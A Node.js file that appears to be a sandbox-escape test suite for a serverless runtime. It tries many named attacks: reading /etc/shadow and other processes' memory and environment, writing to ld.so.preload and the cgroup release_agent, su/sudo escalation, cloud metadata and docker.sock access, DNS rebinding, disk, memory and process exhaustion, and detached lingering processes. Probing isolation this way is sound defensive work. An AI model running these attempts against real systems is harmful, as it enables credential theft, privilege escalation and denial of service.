// A hostile function in Node.js: each attempt answers what it got at, or nothing. It runs in the sandbox; `e` has what it knows of the outside.
"use strict";

const { spawn, spawnSync } = require("node:child_process");
const dgram = require("node:dgram");
const dns = require("node:dns");
const fs = require("node:fs");
const http = require("node:http");
const net = require("node:net");
const { setTimeout: wait } = require("node:timers/promises");
const { Worker } = require("node:worker_threads");

const holds = (e, text) => text.includes(e.canary);
const pids = () => fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name)).map(Number);
const others = () => pids().filter((pid) => pid !== process.pid);

function there(e, path) {
  try {
    return holds(e, fs.readFileSync(path));
  } catch {
    return false;
  }
}

function tried(list, attempt) {
  return list.filter((each) => {
    try {
      return attempt(each);
    } catch {
      return false;
    }
  });
}

function talk(options, text = "escaped") {
  return new Promise((kept) => {
    const made = net.connect({ timeout: 1000, ...options });
    made.on("connect", () => made.write(text));
    made.on("data", (chunk) => kept(chunk.toString("latin1")));
    for (const end of ["error", "close", "timeout"]) made.on(end, () => kept(null) || made.destroy());
  });
}

async function askFor(e, host) {
  const body = JSON.stringify({ SecretString: JSON.stringify({ host, port: e.port }) });
  const answer = await fetch(`${process.env.AWS_ENDPOINT_URL}/say`, { method: "POST", body });
  if (!(await answer.text()).includes(host)) throw new Error("the secret was not read");
}

const attempts = {
  // -- files
  read_the_data_directory: (e) => holds(e, fs.readFileSync(e.file)),
  read_it_through_the_root_of_another_process: (e) =>
    others().flatMap((pid) => ["root", "cwd", "root/host"].map((way) => `/proc/${pid}/${way}${e.file}`)).filter((path) => there(e, path)),
  read_it_through_a_symbolic_link: (e) => fs.symlinkSync(e.file, "/tmp/link") || there(e, "/tmp/link"),
  read_it_through_many_dots: (e) => there(e, "/tmp/" + "../".repeat(40) + e.file),
  read_it_below_other_mounts: (e) => ["/host", "/mnt", "/media", "/oldroot", "/newroot", "/run/host"].filter((path) => there(e, path + e.file)),
  read_open_descriptors: (e) =>
    fs.readdirSync("/proc/self/fd").filter((name) => {
      let target = "";
      try {
        target = fs.readlinkSync(`/proc/self/fd/${name}`);
      } catch {
        return false; // it was there for the listing alone
      }
      return Number(name) > 2 && (target.includes("memfd") || target.startsWith(e.directory));
    }),
  read_the_shadow_file: () => fs.readFileSync("/etc/shadow"),
  list_the_home_of_root: () => fs.readdirSync("/root").length,
  read_the_environment_of_others: (e) => others().filter((pid) => there(e, `/proc/${pid}/environ`)),
  read_the_memory_of_others: () => tried(others(), (pid) => fs.openSync(`/proc/${pid}/mem`, "r")),
  read_devices: () => tried(["/dev/mem", "/dev/kmsg", "/proc/kcore", "/dev/vda", "/dev/sda"], (path) => fs.openSync(path, "r")),
  write_what_it_was_not_given: () =>
    tried(
      ["/var/geumgo/inside/runtime.mjs", "/var/geumgo/inside/agent.py", "/var/geumgo/bin/node", "/etc/hosts", "/usr/bin/env", "/etc/ld.so.preload"],
      (path) => fs.openSync(path, "a"),
    ),
  change_the_machine: () =>
    tried(["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/release_agent"], (path) => fs.openSync(path, "w")),
  fill_the_disk: () => {
    let written = 0;
    for (const directory of ["/tmp", "/var/task", "/opt", "/dev/shm", "/dev", "/", "/var", "/etc", "/run"]) {
      try {
        for (let number = 0; number < 100; number++) {
          for (let part = 0; part < 16; part++) {
            fs.appendFileSync(`${directory}/fill${number}`, Buffer.alloc(1 << 20));
            written += 1 << 20;
          }
        }
      } catch {
        // it is full, or not for writing
      }
    }
    return written > 100 << 20 ? written : null;
  },

  // -- rights and other processes
  become_root: () => process.setuid(0) || process.getuid() === 0,
  run_what_is_set_uid: () =>
    [["su", "-c", "id"], ["sudo", "-n", "id"], ["newgrp"]].filter(([name, ...rest]) => `${spawnSync(name, rest, { timeout: 2000 }).stdout}`.includes("uid=0")),
  make_a_namespace: () => spawnSync("unshare", ["-Urn", "true"], { timeout: 2000 }).status === 0,
  mount_something: () => spawnSync("mount", ["-t", "tmpfs", "none", "/tmp"], { timeout: 2000 }).status === 0,
  see_the_server: (e) => pids().filter((pid) => pid !== process.pid && there({ canary: e.marker }, `/proc/${pid}/cmdline`)),
  signal_the_server: (e) => process.kill(e.pid, 0) && !there({ canary: "runtime.mjs" }, `/proc/${e.pid}/cmdline`) && !there({ canary: "inside.agent" }, `/proc/${e.pid}/cmdline`),
  debug_others: () => tried(others(), (pid) => process._debugProcess(pid) || fs.existsSync(`/proc/${pid}/mem`) && fs.openSync(`/proc/${pid}/mem`, "r+")),

  // -- the network
  connect_to_the_machine: (e) => talk({ host: "127.0.0.1", port: e.port }),
  connect_to_the_machine_by_its_address: (e) => e.address && talk({ host: e.address, port: e.port }),
  connect_to_the_metadata: () => talk({ host: "169.254.169.254", port: 80 }, "GET / HTTP/1.0\r\n\r\n"),
  connect_to_the_internet: () => talk({ host: "1.1.1.1", port: 53 }),
  fetch_from_the_machine: (e) => fetch(`http://127.0.0.1:${e.port}/`).then((answer) => answer.text()),
  send_a_datagram: (e) =>
    new Promise((kept) => {
      const made = dgram.createSocket("udp4").on("message", (said) => kept(said.toString())).on("error", () => kept(null));
      made.send("escaped", e.port, "127.0.0.1");
      setTimeout(() => kept(null), 1000);
    }),
  connect_to_an_abstract_socket: (e) => talk({ path: `\0${e.abstract}` }),
  connect_to_socket_files: async (e) => {
    const paths = [e.socket, "/run/docker.sock", "/run/dbus/system_bus_socket", "/var/run/postgresql/.s.PGSQL.5432"];
    return (await Promise.all(paths.map((path) => talk({ path })))).filter(Boolean);
  },
  look_up_names: (e) => dns.promises.lookup(`${e.canary}.example.org`),
  ask_another_name_server: async () => {
    const asked = new dns.promises.Resolver({ timeout: 1000, tries: 1 });
    asked.setServers(["8.8.8.8"]);
    return asked.resolve4("example.org");
  },
  connect_through_the_server: async (e) => {
    const texts = [`CONNECT 127.0.0.1:${e.port} HTTP/1.1\r\n\r\n`, `GET http://127.0.0.1:${e.port}/ HTTP/1.1\r\nHost: x\r\n\r\n`];
    const places = [{ host: "127.77.0.2", port: 80 }, { host: "127.77.0.1", port: 9001 }];
    const said = await Promise.all(texts.flatMap((text) => places.map((place) => talk(place, text))));
    return said.filter((each) => each?.includes("tripped"));
  },
  read_a_secret_that_names_the_machine: (e) => askFor(e, "127.0.0.1").then(() => talk({ host: "127.0.0.1", port: e.port })),
  read_a_secret_that_names_the_metadata: (e) => askFor(e, "169.254.169.254").then(() => talk({ host: "169.254.169.254", port: e.port })),
  read_a_secret_whose_host_leads_inside: (e) => askFor(e, "rebinding.example.org").then(() => talk({ host: "rebinding.example.org", port: e.port })),
  take_the_place_of_the_server: () =>
    new Promise((kept) => http.createServer().on("error", () => kept(null)).listen(80, "127.77.0.2", () => kept(true))),

  // -- more than its share
  take_all_memory: async () => {
    const kept = [];
    for (let part = 0; part < 60; part++) {
      kept.push(Buffer.alloc(10 << 20, 1));
      await wait(10);
    }
    return kept.length;
  },
  take_shared_memory: async () => {
    const kept = [];
    for (let part = 0; part < 60; part++) {
      kept.push(new Uint8Array(new SharedArrayBuffer(10 << 20)).fill(1));
      await wait(10);
    }
    return kept.length;
  },
  take_memory_of_webassembly: async () => {
    const memory = new WebAssembly.Memory({ initial: 1, maximum: 16_384 });
    for (let part = 0; part < 60; part++) {
      const before = memory.grow(160);
      new Uint8Array(memory.buffer).fill(1, before << 16);
      await wait(10);
    }
    return memory.buffer.byteLength;
  },
  take_all_memory_at_once: () => Buffer.alloc(3 << 30, 1).length,
  start_processes_without_end: async () => {
    const started = Array.from({ length: 100 }, () => spawn("sleep", ["20"]).on("error", () => null));
    await wait(500);
    const alive = started.filter((each) => each.pid !== undefined).length;
    return alive > 64 ? alive : null;
  },
  start_threads_without_end: async () => {
    const started = Array.from({ length: 60 }, () => new Worker("setInterval(() => null, 1000)", { eval: true }).on("error", () => null));
    await wait(2000);
    return started.length && fs.readdirSync("/proc/self/task").length > 100;
  },
  open_files_without_end: () => {
    const kept = [];
    try {
      while (kept.length < 5000) kept.push(fs.openSync("/dev/null", "r"));
    } catch {
      // no more than that
    }
    return kept.length > 1100 ? kept.length : null;
  },
  drown_the_log: () => {
    for (let line = 0; line < 20_000; line++) console.log("x".repeat(1000));
  },
  print_without_end: () => {
    for (;;) {
      try {
        fs.writeSync(1, "x".repeat(60_000) + "\n");
      } catch {
        // not as fast as that
      }
    }
  },
  leave_a_process_behind: async (e) => {
    spawn("/bin/sh", ["-c", `trap '' 15 2 1; sleep 4; : ${e.canary}`], { detached: true, stdio: "ignore" }).unref();
    await wait(200);
  },
  outlive_the_timeout: async (e) => {
    for (const name of ["SIGTERM", "SIGINT", "SIGHUP", "SIGUSR2"]) process.on(name, () => null);
    spawn("/bin/sh", ["-c", `trap '' 15; sleep 5; : ${e.canary}`], { detached: true, stdio: "ignore" }).unref();
    await wait(30_000);
  },
};

exports.names = Object.keys(attempts);
exports.handler = async (e) => {
  try {
    const found = await attempts[e.attempt](e);
    return !found || found.length === 0 ? null : found;
  } catch (fault) {
    console.log(fault.name, fault.message);
    return null;
  }
};
